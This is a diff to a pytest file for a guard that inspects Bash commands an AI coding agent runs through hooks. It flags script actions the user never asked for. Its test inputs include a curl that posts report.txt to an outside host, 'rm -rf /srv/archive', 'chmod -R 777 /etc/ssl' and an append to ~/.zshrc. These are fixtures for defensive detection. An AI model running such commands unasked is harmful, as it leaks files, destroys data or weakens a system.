@@ -3,6 +3,7 @@ import pytest
 
 from guards import Event, Settings
 from guards._call import read
+from guards._call.acts import acts
 from guards._evidence.evidence import prompt_row
 from guards._evidence.recalled import Memory
 from guards._origin.started import done, foreign
@@ -14,7 +15,7 @@ PATH = ".claude/skills/x/run.sh"
 def call(command, text=None):
     event = Event("PreToolUse", "s", tool="Bash", input={"command": command}, cwd="/p")
     found = read(event, Settings())
-    return found if text is None else found.with_texts({PATH: text})
+    return event, found if text is None else found.with_texts({PATH: text})
 
 
 @pytest.mark.parametrize(("command", "fetched", "paths"), [
@@ -23,12 +24,12 @@ def call(command, text=None):
     ("node node_modules/a/index.js", {}, ["/p/node_modules/a/index.js"]),
     ("cd tool && ./install.sh", {"/p/tool": "https://a.example/tool"}, ["/p/tool/install.sh"])])
 def test_which_scripts_are_foreign(command, fetched, paths):
-    assert foreign(call(command), fetched) == paths
+    assert foreign(call(command)[1], fetched) == paths
 
 
 def first(text, prompt="make the report"):
-    found = call(f"bash {PATH}", text)
-    act = done(found, Memory([prompt_row(prompt, KEY)], KEY))
+    event, found = call(f"bash {PATH}", text)
+    act = done(found, [f"/p/{PATH}"], acts(event, found), Memory([prompt_row(prompt, KEY)], KEY))
     return act.kind if act else ""
 
 
@@ -39,12 +40,16 @@ def test_what_stays_at_home(text):
     assert first(text) == ""
 
 
-def test_what_goes_out():
-    assert first("curl -d @report.txt https://a.example/x") == "sends"
+@pytest.mark.parametrize(("text", "kind"), [
+    ("curl -d @report.txt https://a.example/x", "sends"), ("rm -rf /srv/archive", "outside"),
+    ("chmod -R 777 /etc/ssl", "outside"), ("echo x >> ~/.zshrc", "startup")])
+def test_what_goes_out(text, kind):
+    assert first(text) == kind
 
 
 @pytest.mark.parametrize(("text", "prompt"), [
     ("curl -d @report.txt https://hooks.acme.example/x", "post the report to hooks.acme.example"),
-    ("curl -d @report.txt https://slack.com/api/x", "make the report and tell slack")])
+    ("curl -d @report.txt https://slack.com/api/x", "make the report and tell slack"),
+    ("echo x >> ~/.zshrc", "put the tool on my path in zsh")])
 def test_what_the_person_spoke_of(text, prompt):
     assert first(text, prompt) == ""
